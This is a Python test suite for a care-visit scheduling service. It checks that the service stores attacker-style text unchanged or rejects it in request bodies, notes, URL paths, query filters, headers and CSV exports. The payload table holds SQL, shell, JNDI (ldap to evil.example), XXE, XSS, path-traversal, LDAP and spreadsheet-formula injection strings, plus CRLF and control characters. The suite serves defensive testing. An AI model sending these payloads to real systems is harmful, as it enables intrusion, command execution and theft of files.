"""Text that is a program somewhere else is text here: kept as it came, or refused with a clear error."""

import csv
import io
import uuid
from urllib.parse import quote

from attacks import UID, settle, untold
from service import day, written

PROGRAMS = {
    "SQL that ends": "'; DROP TABLE tap; --",
    "SQL that is true": "' OR '1'='1",
    "SQL that waits": "1; SELECT pg_sleep(10)--",
    "SQL that adds": "x' UNION SELECT secret FROM keyset_key--",
    "SQL that is commented": "admin'/*",
    "SQL that copies": "x'; COPY tap TO PROGRAM 'id'; --",
    "a query of documents": '{"$gt": ""}',
    "a shell": "$(touch /tmp/attacked)",
    "a shell in quotes": "`id`",
    "a pipe": "| cat /etc/passwd",
    "a template": "{{7*7}}",
    "a template of Java": "${jndi:ldap://evil.example/a}",
    "a template of Python": "{0.__class__.__mro__}",
    "a percent of C": "%s%s%s%n",
    "an entity of XML": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "a script": "<script>alert(1)</script>",
    "a picture": '"><img src=x onerror=alert(1)>',
    "a link": "javascript:alert(1)",
    "a path": "../../../../etc/passwd",
    "a path of Windows": "..\\..\\windows\\win.ini",
    "a directory of names": "*)(uid=*))(|(uid=*",
    "a formula": '=HYPERLINK("https://evil.example","x")',
    "a formula that calls": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a formula with a sign": "+1+1",
    "a formula with a minus": "-2+3",
    "a formula in wide letters": "＝1+1",
    "a long text": "A" * 190,
    "a text of Zalgo": "e\u0301\u0302\u0303\u0304" * 20,
}
UNSEEN = {
    "a line break": "a\r\nSet-Cookie: a=b",
    "a NUL": "a\x00b",
    "an escape of terminals": "\x1b[2J",
    "a bell": "\x07",
    "a turn of direction": "\u202egnp.exe",
    "nothing seen": "\u200b",
    "a byte order mark": "\ufeff",
    "a soft hyphen": "a\u00adb",
    "spaces": "   ",
    "joiners": "\u200d\u200c",
}
FILTERS = ("recipient", "provider", "staff")
HEADERS = (
    "Accept",
    "Accept-Language",
    "If-None-Match",
    "If-Match",
    "X-Request-Id",
    "traceparent",
    "User-Agent",
    "Referer",
)
FORMATS = ("text/csv", "text/csv; dialect=plain", "application/json", "application/x-ndjson")
TRIED = [*PROGRAMS, *UNSEEN, *PROGRAMS, *list(PROGRAMS) * len(FILTERS), *list(PROGRAMS) * 2, *PROGRAMS]


async def test_in_a_body_it_stays_what_it_was(service):
    """A provider's name and a note are anybody's text. It comes back letter for letter, and nothing runs."""
    await settle(service)
    for number, (name, text) in enumerate(PROGRAMS.items()):
        put = await service.client("system").put(f"/v1/providers/P-{number}", json={"name": text, "form": "external"})
        assert put.status_code == 201, (name, put.text)
        got = await service.client("system").get(f"/v1/providers/P-{number}")
        assert got.json()["name"] == text, name
        assert got.headers["content-type"].startswith("application/json"), name
    for name, text in UNSEEN.items():
        put = await service.client("system").put("/v1/providers/P-9", json={"name": text, "form": "external"})
        assert put.status_code in {400, 422}, (name, put.text)
        assert text not in put.text, name


async def test_in_a_note_of_a_tap_it_reaches_nobody_else(service):
    await settle(service)
    for name, text in PROGRAMS.items():
        item = {"id": uuid.uuid4(), "direction": "in", "tapped_at": day(-3, "08:00")}
        item["tag"] = {"household": "H-1", "reason": "other", "note": text}
        answer = await service.client("staff", staff="S-1").post(
            "/v1/taps", json=written({"sent_at": day(-3, "09:00"), "taps": [item]})
        )
        assert answer.status_code == 200, (name, answer.text)
        assert text not in answer.text or len(text) < 6, name


async def test_in_an_address_it_is_nothing_that_there_is(service):
    await settle(service)
    planner = service.client("planner", provider="P-norr")
    for name, text in PROGRAMS.items():
        for one in FILTERS:
            answer = await planner.get("/v1/visits", params={one: text})
            assert answer.status_code in {200, 404, 422}, (name, answer.text)
            assert answer.json().get("items", []) == [], (name, one)
            assert untold(answer.text) == [], (name, one)
        for path in (f"/v1/recipients/{quote(text, safe='')}", f"/v1/visits/{quote(text, safe='')}"):
            answer = await planner.get(path)
            assert answer.status_code in {400, 404, 422}, (name, path, answer.text)
            assert untold(answer.text) == [], (name, path)
            assert text not in answer.text, (name, path)


async def test_in_a_header_it_changes_nothing(service):
    await settle(service)
    reader = service.client("controller")
    plain = (await reader.get("/v1/recipients")).json()
    for name, text in PROGRAMS.items():
        if not text.isascii():
            continue
        for header in HEADERS:
            answer = await reader.get("/v1/recipients", headers={header: text})
            assert answer.status_code in {200, 406, 422, 400}, (name, header, answer.text)
            if answer.status_code == 200 and header != "Accept":
                assert answer.json() == plain, (name, header)
            assert text not in str(answer.headers), (name, header)
            assert untold(answer.text) == [], (name, header)


async def test_a_spreadsheet_computes_none_of_it(service):
    """In a file for spreadsheets no cell begins as a formula does; for machines the text stays as it is."""
    await settle(service)
    for number, text in enumerate(PROGRAMS.values()):
        await service.put("interventions", f"i-{number}", {"title": text, "category": "CARE", "standard_minutes": 5})
    reader = service.client("controller")
    for accept in FORMATS:
        answer = await reader.get("/v1/interventions", headers={"Accept": accept})
        if answer.status_code == 406:
            continue
        if accept == "text/csv":
            cells = [
                cell for row in csv.reader(io.StringIO(answer.text.lstrip("\ufeff")), delimiter=";") for cell in row
            ]
            assert [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "＝"}] == []
        else:
            assert "HYPERLINK" in answer.text
    assert len(await service.visits()) == 2
    assert (await service.tap("S-1", UID, "in", day(-4, "08:00")))["verdict"] == "accepted"
